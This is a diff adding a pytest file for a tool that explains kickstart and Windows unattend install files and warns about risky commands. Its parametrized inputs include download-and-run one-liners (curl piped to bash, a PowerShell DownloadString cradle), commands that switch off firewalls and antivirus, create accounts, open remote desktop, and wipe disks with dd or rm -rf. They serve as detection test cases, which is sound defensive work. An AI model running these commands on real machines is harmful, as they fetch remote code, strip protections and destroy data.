@@ -1,0 +1,131 @@
+"""What is told of a file, and which commands earn a word of warning."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from fairledger.events.explain import explain
+from fairledger.events.warnings import warnings_of
+from fairledger.subject.side import read_side
+
+HEAD = "#version=RHEL9\n"
+FILES = Path(__file__).parents[1] / "checks" / "files"
+
+FETCHES = "fetches something from outside"
+RUNS = "runs what it fetched"
+PROTECTION = "switches protection off"
+HIDES = "hides its window or what it does"
+ENCODED = "is encoded, so that nobody can read what it does"
+ACCOUNTS = "makes accounts or gives rights"
+OPENS = "opens the machine to others"
+ERASES = "erases or overwrites"
+UPDATES = "weakens what updates protect"
+
+
+@pytest.mark.parametrize(
+    ("command", "words"),
+    [
+        ("cmd /c echo station > C:\\larkmoor.txt", set()),
+        ("reg add HKLM\\SYSTEM\\Setup\\LabConfig /v BypassTPMCheck /t REG_DWORD /d 1 /f", set()),
+        ('powershell -Command "Invoke-WebRequest http://larkmoor.example/x -OutFile C:\\x"', {FETCHES}),
+        ("curl -s https://larkmoor.example/setup | bash", {FETCHES, RUNS}),
+        ("powershell iex ((New-Object Net.WebClient).DownloadString('https://larkmoor.example'))", {FETCHES, RUNS}),
+        ("certutil -urlcache -f http://larkmoor.example/a a", {FETCHES}),
+        ("dnf -y install chrony", {FETCHES}),
+        ("netsh advfirewall set allprofiles state off", {PROTECTION}),
+        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", {PROTECTION}),
+        ("setenforce 0", {PROTECTION}),
+        ("systemctl disable firewalld", {PROTECTION}),
+        ("powershell -WindowStyle Hidden -File C:\\x.ps1", {HIDES}),
+        ("powershell -EncodedCommand " + "QQBB" * 20, {ENCODED}),
+        ("net user ghost x /add", {ACCOUNTS}),
+        ("useradd ghost", {ACCOUNTS}),
+        ("reg add HKLM\\x /v fDenyTSConnections /d 0 /f", {OPENS}),
+        ("diskpart /s x.txt", {ERASES}),
+        ("dd if=/dev/zero of=/dev/sda", {ERASES}),
+        ("rm -rf /srv", {ERASES}),
+        ("dnf -y update --nogpgcheck", {UPDATES}),
+    ],
+)
+def test_commands_and_the_words_about_them(command, words):
+    assert set(warnings_of(command)) == words
+
+
+def told(text: str, name: str = "x.ks") -> list[tuple[str, str]]:
+    found = explain(read_side(text.encode(), Path("nowhere") / name))
+    return [(chapter.title, item.text) for chapter in found.chapters for item in chapter.items]
+
+
+@pytest.mark.parametrize(
+    ("line", "sentence"),
+    [
+        ("clearpart --all", "every disk that is found is WIPED without a question: all that is on it is lost"),
+        (
+            "ignoredisk --only-use=sda\nclearpart --all",
+            "disk sda is WIPED without a question: all that is on it is lost",
+        ),
+        ("autopart --type=lvm", "the installer lays it out by itself"),
+        ("part / --size=9000 --grow", "a partition is made: system, all that is left, at least 9000 MiB"),
+        ("part / --size=9000 --encrypted", "a partition is made: system, 9000 MiB, encrypted"),
+        ("user --name=keeper", "keeper WITHOUT a password"),
+        (
+            "user --name=keeper --groups=wheel --password=x",
+            "keeper with a password, in Administrators, with all rights",
+        ),
+        ("rootpw --lock", "the built-in administrator is switched off"),
+        ("rootpw x", "the built-in administrator can sign in"),
+        ("selinux --disabled", "access control is off"),
+        ("firewall --disabled", "the firewall is switched OFF"),
+        ("firewall --enabled --service=ssh", "a firewall that lets in ssh"),
+        ("poweroff", "at the end the machine switches itself off"),
+        ("realm join --no-password larkmoor.example", "a place in the domain larkmoor.example"),
+        ("network --device=eno1 --bootproto=dhcp", "eno1 asks for its address"),
+        ("url --url=http://192.0.2.10/el9", "everything is fetched from http://192.0.2.10/el9"),
+        ("bootloader --location=mbr", "setup: bootloader/--location = mbr - Where the loader is written."),
+        ("strange --thing=1", "setup: strange/--thing = 1 (unknown here)"),
+    ],
+)
+def test_sentences(line, sentence):
+    assert sentence in [text for _, text in told(HEAD + line + "\n")]
+
+
+def test_questions_that_are_left():
+    left = [text for title, text in told(HEAD + "text\n") if title == "Questions that are left"]
+    assert left == [
+        "language and keyboard",
+        "which disk, and how it is laid out",
+        "an account, or the administrator's password",
+    ]
+    assert not [1 for title, _ in told((FILES / "gate.ks").read_text()) if title == "Questions that are left"]
+
+
+def test_secrets_and_hidden_characters_are_not_shown():
+    text = (FILES / "desk.xml").read_text()
+    found = explain(read_side(text.encode(), Path("nowhere/x.xml")))
+    whole = str(found)
+    assert "Dunlin" not in whole
+    assert "RAB1AG4AbABpAG4" not in whole
+    assert "\u202e" not in str(told(HEAD + "timezone \u202eUTC\n"))
+
+
+def test_scripts_beside_the_file_are_read_and_missed(tmp_path):
+    call = 'cmd.exe /c "for %d in (C D) do @if exist %d:\\fair-ledger\\1-end.cmd call %d:\\fair-ledger\\1-end.cmd"'
+    inner = (
+        "<RunSynchronous><RunSynchronousCommand xmlns:wcm='http://schemas.microsoft.com/WMIConfig/2002/State' "
+        f"wcm:action='add'><Order>1</Order><Path>{call}</Path></RunSynchronousCommand></RunSynchronous>"
+    )
+    text = (FILES / "desk.xml").read_text()
+    start = text.index('<settings pass="specialize">') + len('<settings pass="specialize">')
+    block = (
+        '<component name="Microsoft-Windows-Deployment" processorArchitecture="x86" '
+        'publicKeyToken="31bf3856ad364e35" language="neutral" versionScope="nonSxS">' + inner + "</component>"
+    )
+    path = tmp_path / "x.xml"
+    path.write_text(text[:start] + block + text[start:])
+    missed = str(explain(read_side(path.read_bytes(), path)))
+    assert "calls a script that is not beside the file" in missed
+    (tmp_path / "fair-ledger").mkdir()
+    (tmp_path / "fair-ledger/1-end.cmd").write_text("diskpart /s x\n")
+    assert ERASES in str(explain(read_side(path.read_bytes(), path)))
